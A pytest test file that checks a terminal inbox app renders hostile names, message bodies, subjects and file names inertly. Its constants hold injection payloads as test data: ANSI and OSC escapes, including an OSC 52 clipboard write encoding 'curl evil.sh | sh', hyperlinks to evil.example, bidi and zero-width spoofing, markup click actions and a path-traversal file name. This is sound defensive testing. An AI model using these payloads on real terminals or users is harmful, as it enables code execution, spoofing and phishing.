"""Terminal and markup injection: hostile names, bodies, subjects, file names and Telegram names
are shown inertly in the inbox list, the thread, the search highlight and notifications.

Pilot drives the real app on a real database; the assertions read the rendered widgets and the
exported screenshot (what the terminal would receive).
"""

from __future__ import annotations

import sys
from pathlib import Path

import pytest
from rich.style import Style
from rich.text import Text
from sqlalchemy import select

from core.config.settings import Settings
from core.domain.enums import Channel, Direction, MessageStatus, SenderType
from core.errors import InvalidInput
from core.events import MessageChanged
from core.sanitize import MAX_LINE
from core.service import InboxService
from core.storage import tables as t
from core.storage.database import Database
from core.storage.timeline import append_message, conversation_for
from inbox_app.app import InboxApp
from inbox_app.errors import notify_error
from inbox_app.screens.conversation import ConversationScreen
from inbox_app.screens.inbox import InboxScreen
from inbox_app.widgets.conversation.timeline import Timeline
from inbox_app.widgets.inbox.conversation_list import COLUMNS, ConversationList
from tests.factories import add_prospect
from tests.tui.helpers import settle

ANSI = "\x1b[31mROUGE\x1b[0m\x1b[2J\x1b[H"
OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
OSC8 = "\x1b]8;;https://evil.example\x1b\\lien\x1b]8;;\x1b\\"
C0C1 = "a\x00b\x07c\x08d\x85e\x9bf\r"
BIDI = "facture\u202etxt.exe"
ZERO_WIDTH = "pa\u200byp\u200dal\ufeff"
MARKUP = "[bold red]x[/] [link=https://evil.example]y[/] [@click=app.quit]z[/]"
HOSTILE = f"{MARKUP} {ANSI}{OSC52}{OSC8}{C0C1}{BIDI}{ZERO_WIDTH}"
LONG_LINE = "w" * 10_000
FORBIDDEN = ("\x1b", "\x07", "\x00", "\x08", "\x85", "\x9b", "\u202e", "\u200b", "\u200d", "\ufeff")


@pytest.fixture
async def hostile(sqlite_db: Database, clock) -> tuple[InboxService, dict[str, int]]:
    service = await InboxService.connect(sqlite_db, "acme", clock=clock)
    ids: dict[str, int] = {}
    sms = await add_prospect(service, f"{MARKUP} {ANSI}Nom", phone="+33600000001")
    ids["sms"] = await _say(service, sms, Channel.SMS, f"maison {HOSTILE}\n{LONG_LINE}")
    mail = await add_prospect(service, f"Mail {OSC52}{BIDI}", email="evil@example.fr")
    ids["email"] = await _say(
        service,
        mail,
        Channel.EMAIL,
        f"corps {OSC8}",
        subject=f"Objet {MARKUP}{ANSI}",
        meta={"attachments": [{"filename": f"../../etc/{BIDI}{ANSI}[b]x[/b].pdf"}]},
    )
    telegram = await add_prospect(
        service, f"@{ZERO_WIDTH}_bot[@click=app.quit]", telegram_chat_id=4242
    )
    ids["telegram"] = await _say(service, telegram, Channel.TELEGRAM, f"salut {C0C1}")
    return service, ids


async def _say(
    service: InboxService,
    prospect_id: int,
    channel: Channel,
    text: str,
    subject: str | None = None,
    meta: dict | None = None,
) -> int:
    async with service.db.session() as session:
        prospect = await session.get(t.ProspectRow, prospect_id)
        conversation = await conversation_for(session, prospect, channel, None)
        await append_message(
            session,
            conversation,
            direction=Direction.INBOUND,
            sender_type=SenderType.PROSPECT,
            content=text,
            subject=subject,
            meta=meta,
            status=MessageStatus.RECEIVED,
            created_at=service.ctx.now(),
        )
        return conversation.id


def _assert_inert(text: Text | str, where: str) -> None:
    plain = text.plain if isinstance(text, Text) else text
    leaked = [repr(c) for c in FORBIDDEN if c in plain]
    assert not leaked, f"{where} shows {leaked}: {plain[:120]!r}"
    if isinstance(text, Text):
        for span in text.spans:
            style = span.style if isinstance(span.style, Style) else Style.parse(str(span.style))
            assert not style.link, f"{where}: a link style {style.link!r}"
            assert not style.meta, f"{where}: an action {style.meta!r}"


def _assert_screen_inert(app: InboxApp, where: str) -> None:
    svg = app.export_screenshot()
    _assert_inert(svg, f"{where} (screenshot)")
    assert "<a " not in svg and 'evil.example"' not in svg, f"{where}: a hyperlink in the SVG"


async def test_the_list_shows_hostile_names_and_previews_literally(hostile) -> None:
    service, _ = hostile
    app = InboxApp(service, clock=service.ctx.clock)
    async with app.run_test(size=(120, 30)) as pilot:
        await settle(pilot)
        table = app.screen.query_one(ConversationList)
        cells = [cell for i in range(table.row_count) for cell in table.get_row_at(i)]
        for cell in cells:
            _assert_inert(cell if isinstance(cell, Text) else str(cell), "a list cell")
        plain = " | ".join(c.plain if isinstance(c, Text) else str(c) for c in cells)
        assert (
            "[bold red]x[/] [link=https://evil.example]y[/] [@click=app.quit]z[/] ROUGENom" in plain
        )
        assert "paypal_bot[@click=app.quit]" in plain
        _assert_screen_inert(app, "the inbox")
        await pilot.click(ConversationList, offset=(40, 1))  # where "[@click=app.quit]" is
        await pilot.press("down", "up")
        await settle(pilot)
        assert app.is_running and isinstance(app.screen, (InboxScreen, ConversationScreen))


@pytest.mark.parametrize("which", ["sms", "email", "telegram"])
async def test_the_thread_shows_hostile_bodies_subjects_and_file_names_inertly(
    hostile, which: str
) -> None:
    service, ids = hostile
    app = InboxApp(service, clock=service.ctx.clock)
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot)
        app.push_screen(ConversationScreen(ids[which]))
        await settle(pilot)
        timeline = app.screen.query_one(Timeline)
        rendered = [item.body for item in timeline.items]
        assert rendered
        for text in rendered:
            _assert_inert(text if isinstance(text, Text) else str(text), f"the {which} thread")
        joined = "\n".join(t.plain if isinstance(t, Text) else str(t) for t in rendered)
        if which == "sms":
            assert MARKUP in joined
            assert "facturetxt.exe" in joined and "paypal" in joined
            assert max(len(line) for line in joined.splitlines()) <= MAX_LINE
        if which == "email":
            assert "Objet [bold red]x[/]" in joined
            assert "[b]x[/b].pdf" in joined
        _assert_screen_inert(app, f"the {which} thread")
        await pilot.press("q")
        await settle(pilot)
        assert app.is_running


async def test_search_highlights_only_the_words_in_hostile_text(hostile) -> None:
    service, _ = hostile
    app = InboxApp(service, clock=service.ctx.clock)
    async with app.run_test(size=(120, 30)) as pilot:
        await settle(pilot)
        await pilot.press("slash", *"maison", "enter")
        await settle(pilot)
        table = app.screen.query_one(ConversationList)
        assert table.row_count == 1
        cells = [c for c in table.get_row_at(0) if isinstance(c, Text)]
        for cell in cells:
            _assert_inert(cell, "a search result")
        # the channel's and priority's colour spans say what their text says; the rest highlights
        texts = [cells[COLUMNS.index(name)] for name in ("name", "preview")]
        highlighted = [c.plain[s.start : s.end] for c in texts for s in c.spans]
        assert "maison" in highlighted
        assert all(word.lower() == "maison" for word in highlighted if word.strip()), highlighted
        _assert_screen_inert(app, "the search results")


async def test_notifications_are_inert(hostile, tmp_path: Path) -> None:
    service, _ = hostile
    capture = tmp_path / "hook.txt"
    script = tmp_path / "hook.py"
    script.write_text(
        "import sys\n"
        f"open({str(capture)!r}, 'a', encoding='utf-8').write(repr(sys.argv[1:]) + '\\n')\n"
    )
    settings = Settings(notify_command=f"{sys.executable} {script}", notify_scope="all")
    app = InboxApp(service, settings=settings, clock=service.ctx.clock)
    async with app.run_test(size=(120, 30)) as pilot:
        await settle(pilot)
        # an error toast quoting a hostile value
        notify_error(app, InvalidInput("nom", HOSTILE, "un nom"))
        await settle(pilot)
        _assert_screen_inert(app, "an error notification")
        # the new-activity hook, for a new hostile message
        prospect = await add_prospect(service, f"Hook {ANSI}{MARKUP}", phone="+33600000099")
        conversation_id = await _say(service, prospect, Channel.SMS, f"{OSC52}{BIDI} hook")
        async with service.db.session() as session:
            message_id = await session.scalar(
                select(t.MessageRow.id).where(t.MessageRow.conversation_id == conversation_id)
            )
        service.bus.publish(MessageChanged(message_id, conversation_id))
        await settle(pilot)
        for _ in range(50):
            if capture.exists():
                break
            await pilot.pause(0.1)
        assert app.is_running
    argv = capture.read_text(encoding="utf-8")
    assert "Hook" in argv and "hook" in argv
    for bad in ("\\x1b", "\\x07", "\\u202e", "\u202e"):
        assert bad not in argv, argv


async def test_hostile_rows_are_really_stored_as_sent(hostile) -> None:
    """The fixture is what it claims: the database holds the raw hostile text (the screen
    cleans it; nothing is cleaned away on the way in)."""
    service, _ = hostile
    async with service.db.session() as session:
        contents = (await session.execute(select(t.MessageRow.content))).scalars().all()
    assert any("\x1b]52;" in c for c in contents)
    assert any(LONG_LINE in c for c in contents)
